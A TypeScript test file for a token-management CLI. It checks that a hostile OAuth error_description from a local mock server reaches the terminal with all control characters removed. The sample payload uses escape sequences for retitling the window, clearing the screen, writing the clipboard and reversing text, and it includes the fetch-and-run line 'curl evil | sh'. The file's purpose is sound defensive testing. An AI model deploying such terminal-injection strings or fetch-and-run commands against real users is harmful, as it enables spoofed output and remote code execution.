// What a token server says reaches the terminal without its escape sequences: the real binary
// refreshes against a server on 127.0.0.1 whose error_description tries to retitle the window,
// clear the screen, write the clipboard and reverse the text.
import { createServer, type Server } from "node:http";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FileStore } from "../../adapters/file/store.ts";
import { DEFAULT_SCHWAB_APP } from "../../emulator/mod.ts";
import { cleanEnv, runTdauth } from "./_run.ts";
import { CONTROL_CHARACTERS } from "../helpers/text.ts";

const HOSTILE = "\x1b]0;pwned\x07\x1b[2J\x1b[1;1Hrun \x1b[31mcurl evil | sh\x1b[0m\x1b]52;c;ZXZpbA==\x1b\\\u202Egnp.exe\r\nhint: fake";
let server: Server;
let url: string;
let home: string;

beforeAll(async () => {
  server = createServer((req, res) => {
    req.resume();
    res.writeHead(400, { "content-type": "application/json" });
    res.end(JSON.stringify({ error: "invalid_request", error_description: HOSTILE }));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  url = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
  home = mkdtempSync(join(tmpdir(), "tdauth-text-"));
  const now = Date.now();
  await new FileStore(join(home, "td_state.json"), { onWarning: () => {} }).save({
    accessToken: "TEXT-ACCESS",
    refreshToken: "TEXT-REFRESH",
    tokenType: "Bearer",
    accessExpiresAt: now + 1_800_000,
    refreshExpiresAt: now + 86_400_000,
    authorizedAt: now,
    provider: "schwab",
    clientId: DEFAULT_SCHWAB_APP.clientId,
  });
});
afterAll(async () => {
  await new Promise((resolve) => server.close(resolve));
  rmSync(home, { recursive: true, force: true });
});

describe("the CLI printing a provider's error", () => {
  it("shows the words of a hostile error_description without one control character", async () => {
    const result = await runTdauth(["refresh"], cleanEnv({ TDAUTH_HOME: home, TDAUTH_PROVIDER: "emulator", TDAUTH_EMULATOR_URL: url }));
    expect(result.code).not.toBe(0);
    const lines = result.stderr.trimEnd().split("\n");
    expect(lines[0]).toMatch(/^error: .*refused .*invalid_request/);
    expect(lines[0]).toContain("run curl evil | sh");
    expect(lines[0]).toContain("gnp.exe");
    expect(lines.filter((line) => line.startsWith("hint: fake"))).toEqual([]);
    expect(result.stdout + result.stderr).not.toMatch(CONTROL_CHARACTERS);
  });
});
